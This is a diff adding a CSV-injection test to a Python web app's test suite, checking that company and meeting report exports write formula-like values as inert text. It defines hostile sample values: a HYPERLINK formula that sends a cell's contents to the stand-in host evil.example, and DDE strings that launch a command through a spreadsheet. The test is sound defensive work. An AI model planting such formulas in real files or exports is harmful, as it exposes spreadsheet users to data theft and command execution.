@@ -318,3 +318,27 @@ def test_bar_chart_is_accessible_and_escaped():
     assert "A &amp; B" in svg and "&lt;i&gt;" in svg and "<i>" not in svg
     assert svg.count("<rect") == 2
     assert "—" in svg
+
+
+# CSV injection ----------------------------------------------------------------------
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"x")'
+DDE = "+33 cmd|' /C calc'!A0"
+
+
+def test_report_csvs_write_formulas_as_text(client, staff_user):
+    mission = small_mission()
+    Company = CompanyFactory._meta.model
+    Company.objects.filter(name="Alpha").update(name=HYPERLINK, city=DDE)
+    mission.counterparts.update(organisation="@SUM(1+1)*cmd|' /C calc'!A0")
+    client.force_login(staff_user)
+
+    companies = client.get(url("missions:report_companies_csv", mission), **ENGLISH)
+    meetings = client.get(url("missions:report_meetings_csv", mission), **ENGLISH)
+
+    company_row = companies.content.decode("utf-8-sig").split("\r\n")[1].split(";")
+    assert company_row[0] == '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""x"")"'
+    assert company_row[4] == "'+33 cmd\\|' /C calc'!A0"
+    meeting_row = meetings.content.decode("utf-8-sig").split("\r\n")[1].split(";")
+    assert meeting_row[2:4] == ['"\'=HYPERLINK(""http://evil.example/?x=""&A1,""x"")"',
+                                "'@SUM(1+1)*cmd\\|' /C calc'!A0"]  # fmt: skip
